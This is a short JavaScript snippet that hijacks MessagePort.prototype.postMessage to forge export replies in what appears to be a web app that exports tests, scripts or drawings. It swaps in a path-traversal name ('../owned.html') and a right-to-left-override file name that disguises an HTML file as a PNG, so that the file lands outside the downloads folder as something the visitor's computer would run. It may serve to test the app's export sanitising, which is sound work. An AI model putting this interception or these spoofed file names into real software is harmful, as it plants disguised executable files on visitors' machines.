// Forges replies to the export of a test, a script or a text drawing: the file name leaves the downloads folder
// and has an extension that the visitor's computer would run.
if (!self.isForging) {
  self.isForging = true;
  const send = MessagePort.prototype.postMessage;
  MessagePort.prototype.postMessage = function (message, ...rest) {
    const reply = typeof message === "string" ? JSON.parse(message) : message;
    if (reply?.kind === "export" && reply.export.refusal === null) {
      const [text] = Object.values(reply.export.files);
      reply.export = { ...reply.export, name: "../owned.html", files: { "../dataflow.dot\u202egnp.html": text } };
    }
    send.call(this, typeof message === "string" ? JSON.stringify(reply) : message, ...rest);
  };
}
